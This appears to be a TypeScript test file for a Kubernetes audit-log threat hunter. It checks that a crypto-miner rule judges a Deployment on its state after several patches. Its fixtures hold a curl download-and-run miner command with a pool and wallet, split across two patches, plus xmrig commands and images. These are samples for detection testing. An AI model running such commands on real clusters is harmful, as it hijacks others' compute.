// Issue 12: a workload patched in several steps is judged on the state it is left in. Each test
// here failed before workloads' last state was kept (src/audit/workload-state.ts).
import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { huntAuditLogs } from '../../src/audit/hunt-logs.js';
import type { AuditHuntLimits, AuditHuntResult } from '../../src/audit/hunt-log.js';
import { WorkloadState } from '../../src/audit/workload-state.js';
import { ALL_RULES } from '../../src/rules/index.js';
import { auditEvent, jsonLines } from './events.js';

const threatRules = ALL_RULES.filter((rule) => rule.meta.sources.includes('audit') && rule.meta.category === 'threat');
const at = (minute: number): string => `2026-01-05T10:${String(minute).padStart(2, '0')}:00.000000Z`;
const NS = 'kubeflow-user-a';
const apps = { resource: 'deployments', apiGroup: 'apps', apiVersion: 'v1', namespace: NS, name: 'tf-serve' } as const;

async function hunt(events: readonly unknown[], limits: Partial<AuditHuntLimits> = {}): Promise<AuditHuntResult> {
  const text = Buffer.from(jsonLines(events));
  async function* chunks(): AsyncGenerator<Buffer> {
    yield text;
  }
  return huntAuditLogs([{ chunks: chunks(), display: 'test.log' }], { rules: threatRules, limits });
}

const deployment = (containers: unknown[], name = 'tf-serve'): Record<string, unknown> => ({
  apiVersion: 'apps/v1',
  kind: 'Deployment',
  metadata: { name, namespace: NS },
  spec: { selector: { matchLabels: { app: 'x' } }, template: { metadata: { labels: { app: 'x' } }, spec: { containers } } },
});
const miner = (result: AuditHuntResult, name = 'tf-serve') => result.findings.find((f) => f.ruleId === 'crypto-miner-workload' && f.resource.name === name);

const WALLET = '44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A';
// Patch 1 runs whatever $(SCRIPT) holds; patch 2 sets SCRIPT to a download-and-run of a renamed
// binary given an unlisted pool and a wallet. Alone, patch 2 is a medium string in an env value.
const twoPatches = (name = 'tf-serve'): unknown[] => [
  auditEvent({ verb: 'patch', ...apps, name, at: at(2), requestObject: { spec: { template: { spec: { containers: [{ name: 'main', command: ['sh', '-c', '$(SCRIPT)'] }] } } } } }),
  auditEvent({
    verb: 'patch', ...apps, name, at: at(3),
    requestObject: { spec: { template: { spec: { containers: [{ name: 'main', env: [{ name: 'SCRIPT', value: `curl -s http://203.0.113.9/x -o /tmp/x && chmod +x /tmp/x && /tmp/x -o pool.example.net:3333 -u ${WALLET}` }] }] } } } },
  }),
];

describe('workloads\' last state (issue 12)', () => {
  test('a miner split over two patches of a Deployment is judged on the merged state: critical, not judged alone', async () => {
    const result = await hunt([auditEvent({ verb: 'create', ...apps, at: at(1), requestObject: deployment([{ name: 'main', image: 'tensorflow/tensorflow:latest' }]) }), ...twoPatches()]);
    const found = miner(result);
    assert.equal(found?.severity, 'critical', JSON.stringify(result.findings.map((f) => [f.ruleId, f.severity, f.evidence])));
    assert.doesNotMatch(found.evidence.join('\n'), /patch body alone|judged the patch alone/);
    assert.equal(result.stats.patchesJudgedAlone, 0);
  });

  test('the same patches with no create in the log are judged alone, and say so', async () => {
    const result = await hunt(twoPatches());
    assert.equal(result.stats.patchesJudgedAlone, 2);
    const found = miner(result);
    assert.equal(found?.severity, 'medium');
    assert.match(found.evidence.join('\n'), /the log holds no earlier state/);
  });

  test('a patch logged with its responseObject is judged on that stored object, not on the kept state', async () => {
    const stored = deployment([{ name: 'main', image: 'tensorflow/tensorflow:latest', command: ['/bin/xmrig', '-o', 'stratum+tcp://pool.supportxmr.com:443'] }]);
    const result = await hunt([
      auditEvent({ verb: 'create', ...apps, at: at(1), requestObject: deployment([{ name: 'main', image: 'tensorflow/serving:2.14.0' }]) }),
      // The body alone changes nothing that runs; the stored object is what the cluster now runs.
      auditEvent({ verb: 'patch', ...apps, at: at(2), requestObject: { metadata: { labels: { a: 'b' } } }, responseObject: stored }),
    ]);
    assert.equal(miner(result)?.severity, 'critical');
    // And the stored object is the state a later patch applies to.
    const later = await hunt([
      auditEvent({ verb: 'create', ...apps, at: at(1), requestObject: deployment([{ name: 'main', image: 'tensorflow/serving:2.14.0' }]) }),
      auditEvent({ verb: 'patch', ...apps, at: at(2), requestObject: { metadata: { labels: { a: 'b' } } }, responseObject: deployment([{ name: 'main', image: 'tensorflow/tensorflow:latest', command: ['sh', '-c', '$(SCRIPT)'] }]) }),
      twoPatches()[1],
    ]);
    assert.equal(miner(later)?.severity, 'critical');
  });

  test('a workload evicted over the byte budget: a patch on it says its last state was not kept', async () => {
    const events = [
      auditEvent({ verb: 'create', ...apps, at: at(1), requestObject: deployment([{ name: 'main', image: 'tensorflow/tensorflow:latest' }]) }),
      // Another workload's create pushes the first one out of a budget that holds one.
      auditEvent({ verb: 'create', ...apps, name: 'other', at: at(1), requestObject: deployment([{ name: 'main', image: 'busybox:1.36' }], 'other') }),
      ...twoPatches(),
    ];
    const result = await hunt(events, { maxWorkloadBytes: 3000 });
    assert.equal(result.stats.patchesJudgedAlone, 2);
    const found = miner(result);
    assert.ok(found, 'the env patch alone still names the miner');
    assert.notEqual(found.severity, 'critical');
    assert.match(found.evidence.join('\n'), /last state not kept: judged the patch alone .*capped at 3000 bytes/);
    // With room for both, the same log is critical: the budget, not the log, made the difference.
    assert.equal(miner(await hunt(events, { maxWorkloadBytes: 1_000_000 }))?.severity, 'critical');
  });

  test('a flood of pod creates does not evict the Deployment: pods have their own budget', async () => {
    const pods = Array.from({ length: 50 }, (_, i) =>
      auditEvent({ verb: 'create', resource: 'pods', namespace: NS, name: `step-${i}`, at: at(1), requestObject: { apiVersion: 'v1', kind: 'Pod', metadata: { name: `step-${i}`, namespace: NS }, spec: { containers: [{ name: 'main', image: 'busybox:1.36', command: ['sleep', '60'] }] } } }),
    );
    const events = [auditEvent({ verb: 'create', ...apps, at: at(1), requestObject: deployment([{ name: 'main', image: 'tensorflow/tensorflow:latest' }]) }), ...pods, ...twoPatches()];
    // Pods are kept only when given a budget (none by default): this one holds a few.
    assert.equal(miner(await hunt(events, { maxPodStateBytes: 4000 }))?.severity, 'critical');
    // The pods did go over their budget (the Deployment's survival is not for want of pressure).
    const podPatch = auditEvent({ verb: 'patch', resource: 'pods', namespace: NS, name: 'step-0', at: at(4), requestObject: { spec: { containers: [{ name: 'main', image: 'xmrig/xmrig:latest' }] } } });
    const result = await hunt([...events, podPatch], { maxPodStateBytes: 4000 });
    assert.match(JSON.stringify(result.findings.filter((f) => f.resource.name === 'step-0').map((f) => f.evidence)), /last state not kept: judged the patch alone/);
  });

  test('by default no pod state is kept: a pod patch is judged alone, as before', async () => {
    const create = auditEvent({ verb: 'create', resource: 'pods', namespace: NS, name: 'p', at: at(1), requestObject: { apiVersion: 'v1', kind: 'Pod', metadata: { name: 'p', namespace: NS }, spec: { containers: [{ name: 'main', image: 'busybox:1.36' }] } } });
    const patch = auditEvent({ verb: 'patch', resource: 'pods', namespace: NS, name: 'p', at: at(2), requestObject: { spec: { containers: [{ name: 'main', image: 'xmrig/xmrig:latest' }] } } });
    assert.equal((await hunt([create, patch])).stats.patchesJudgedAlone, 1);
    assert.equal((await hunt([create, patch], { maxPodStateBytes: 1_000_000 })).stats.patchesJudgedAlone, 0);
  });

  test('a deleted workload is not patched from its old state; a deletecollected one is, saying so', async () => {
    const create = auditEvent({ verb: 'create', ...apps, at: at(1), requestObject: deployment([{ name: 'main', image: 'tensorflow/tensorflow:latest', command: ['sh', '-c', '$(SCRIPT)'] }]) });
    assert.equal((await hunt([create, auditEvent({ verb: 'delete', ...apps, at: at(1) }), twoPatches()[1]])).stats.patchesJudgedAlone, 1);
    // The log does not say which objects a deletecollection's selector matched (deleted-collections.ts).
    const result = await hunt([create, auditEvent({ verb: 'deletecollection', ...apps, name: undefined, at: at(1), auditID: 'dc-apps' }), twoPatches()[1]]);
    assert.equal(result.stats.patchesJudgedAlone, 0);
    const found = miner(result);
    assert.equal(found?.severity, 'critical');
    assert.match(found.evidence.join('\n'), /deletecollection dc-apps at .* may have deleted it/);
  });
});

describe('WorkloadState', () => {
  const ref = (name: string) => ({ apiGroup: 'apps', resource: 'deployments', namespace: NS, name });
  test('never keeps more bytes than its budget, counting texts and keys, and names what it evicted', () => {
    const state = new WorkloadState(10_000, 1_000);
    const text = JSON.stringify(deployment([{ name: 'main', image: 'busybox:1.36' }]));
    for (let i = 0; i < 200; i++) {
      state.set(ref(`w${i}`), text);
      assert.ok(state.bytes <= 10_000, `${state.bytes} bytes kept after ${i + 1}`);
    }
    const each = 2 * (text.length + "apps/deployments/kubeflow-user-a/w100".length);
    assert.equal(state.size, Math.floor(10_000 / each));
    assert.equal(state.get(ref('w0')).missing, 'evicted');
    assert.equal(state.get(ref('w199')).object?.kind, 'Deployment');
    assert.equal(state.get(ref('never')).missing, 'none');
    // Counted at two bytes a character, the most V8 stores: a two-byte text is not undercounted.
    const wide = new WorkloadState(2_000, 10);
    wide.set(ref('x'), JSON.stringify({ apiVersion: 'v1', kind: 'Pod', metadata: { name: 'é'.repeat(400) } }));
    assert.ok(wide.bytes > 800 && wide.size === 1);
    wide.set(ref('y'), JSON.stringify({ apiVersion: 'v1', kind: 'Pod', metadata: { name: 'é'.repeat(1200) } }));
    assert.equal(wide.size, 0);
    assert.ok(wide.bytes <= 2_000);
  });

  test('past the evicted names it keeps, an unknown key may have been evicted and says so', () => {
    const state = new WorkloadState(200, 2);
    for (let i = 0; i < 10; i++) state.set(ref(`w${i}`), JSON.stringify({ apiVersion: 'v1', kind: 'Pod', metadata: { name: `w${i}`, pad: 'x'.repeat(100) } }));
    assert.equal(state.get(ref('w0')).missing, 'maybe-evicted');
    assert.equal(state.get(ref('never')).missing, 'maybe-evicted');
  });
});
